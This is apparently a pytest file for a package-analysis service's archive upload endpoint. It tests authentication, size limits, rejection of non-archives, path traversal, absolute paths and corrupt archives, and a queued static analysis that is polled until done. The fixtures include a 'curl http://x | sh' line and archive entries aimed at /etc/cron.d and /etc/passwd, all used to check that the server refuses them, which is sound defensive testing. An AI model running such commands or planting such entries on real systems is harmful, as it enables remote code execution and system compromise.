"""Uploading an archive: token, size limit, validation (not an archive, traversal, absolute paths,
corrupt), then a job on the server's queue, analysed by its worker slot (a real static analysis
in a child process) and recorded, polled until it is in the dataset."""

from __future__ import annotations

import io
import tarfile
import time
import zipfile

from webtest_support import MAX_UPLOAD, TOKEN, make_sdist

AUTH = {"Authorization": f"Bearer {TOKEN}"}


def post(client, name: str, data: bytes, ecosystem: str = "pypi", headers=AUTH):
    return client.post("/api/uploads", data={"ecosystem": ecosystem}, files={"file": (name, data)}, headers=headers)


def tar_gz(entries: dict[str, bytes]) -> bytes:
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as t:
        for n, data in entries.items():
            info = tarfile.TarInfo(n)
            info.size = len(data)
            t.addfile(info, io.BytesIO(data))
    return buf.getvalue()


def test_upload_needs_a_token(client, tmp_path):
    data = make_sdist(tmp_path / "demo-upload-0.1.0.tar.gz").read_bytes()
    assert post(client, "demo-upload-0.1.0.tar.gz", data, headers={}).status_code == 401
    assert post(client, "demo-upload-0.1.0.tar.gz", data, headers={"Authorization": "Bearer nope"}).status_code == 401


def test_oversize_is_refused(client):
    big = b"\0" * (MAX_UPLOAD + 200 * 1024)
    r = post(client, "big.tar.gz", big)
    assert r.status_code == 413 and "limit" in r.json()["detail"]


def test_oversize_without_content_length_is_cut_off(client):
    """A chunked body carries no Content-Length: it is counted as it arrives."""
    boundary = "xyz"
    head = (f"--{boundary}\r\nContent-Disposition: form-data; name=\"ecosystem\"\r\n\r\npypi\r\n"
            f"--{boundary}\r\nContent-Disposition: form-data; name=\"file\"; filename=\"a.tgz\"\r\n"
            "Content-Type: application/octet-stream\r\n\r\n").encode()

    def body():
        yield head
        for _ in range(40):
            yield b"A" * 16384
        yield f"\r\n--{boundary}--\r\n".encode()
    r = client.post("/api/uploads", content=body(), headers={**AUTH, "Content-Type": f"multipart/form-data; boundary={boundary}"})
    assert r.status_code == 413


def test_not_an_archive(client):
    r = post(client, "evil.tar.gz", b"#!/bin/sh\ncurl http://x | sh\n" * 10)
    assert r.status_code == 422 and r.json()["detail"].startswith("not an archive")
    assert post(client, "empty.tar.gz", b"").status_code == 422


def test_traversal_inside_is_refused(client):
    data = tar_gz({"demo-0.1/PKG-INFO": b"Metadata-Version: 2.1\nName: demo\nVersion: 0.1\n",
                   "demo-0.1/../../../etc/cron.d/evil": b"* * * * * root sh\n"})
    r = post(client, "demo-0.1.tar.gz", data)
    assert r.status_code == 422
    assert "traversal" in r.json()["detail"] and "etc/cron.d/evil" in r.json()["detail"]


def test_absolute_path_in_zip_is_refused(client):
    buf = io.BytesIO()
    with zipfile.ZipFile(buf, "w") as z:
        z.writestr("demo-0.1.dist-info/METADATA", "Name: demo\nVersion: 0.1\n")
        z.writestr("/etc/passwd", "root:x:0:0\n")
    r = post(client, "demo-0.1-py3-none-any.whl", buf.getvalue())
    assert r.status_code == 422 and "absolute" in r.json()["detail"]


def test_corrupt_archive_is_refused(client, tmp_path):
    data = make_sdist(tmp_path / "demo-upload-0.1.0.tar.gz").read_bytes()
    r = post(client, "demo-upload-0.1.0.tar.gz", data[: len(data) // 2])
    assert r.status_code == 422 and "corrupt" in r.json()["detail"]


def test_unidentifiable_archive_is_refused(client):
    r = post(client, "blob.tgz", tar_gz({"package/index.js": b"module.exports = 1\n"}), ecosystem="npm")
    assert r.status_code == 422 and "cannot tell which npm release" in r.json()["detail"]


def test_upload_is_analysed_and_polled(client, tmp_path):
    data = make_sdist(tmp_path / "demo-upload-0.1.0.tar.gz").read_bytes()
    r = post(client, "../../demo-upload-0.1.0.tar.gz", data)
    assert r.status_code == 202, r.text
    up = r.json()
    assert (up["name"], up["version"], up["filename"]) == ("demo-upload", "0.1.0", "demo-upload-0.1.0.tar.gz")
    assert up["recorded_version"] == f"0.1.0+upload.{up['id'][:12]}"
    assert up["state"] in ("queued", "running")
    deadline = time.monotonic() + 120
    while True:
        st = client.get(up["poll_url"]).json()
        if st["state"] in ("done", "failed") or time.monotonic() > deadline:
            break
        time.sleep(0.3)
    assert st["state"] == "done", st
    rel = client.get(st["api_url"]).json()
    assert rel["release"]["source"] == "upload"
    assert sorted(rel["documents"]) == ["report", "static"]  # the server runs uploads with --upload-mode static
    report = client.get(rel["documents"]["report"]).json()
    assert "diff" in report  # recorded as every analysis is: diffed against a predecessor, if any
    static = client.get(rel["documents"]["static"]).json()
    names = {f["filename"] for f in static["results"]["files"]}
    assert "demo-upload-0.1.0/setup.py" in names
    urls = [u for f in static["results"]["files"] for u in f.get("urls") or []]
    assert "http://example.invalid/x" in urls
    # The registry's own 0.1.0 is untouched: an upload never takes its identity.
    assert client.get("/api/releases/pypi/demo-upload/0.1.0").status_code == 404
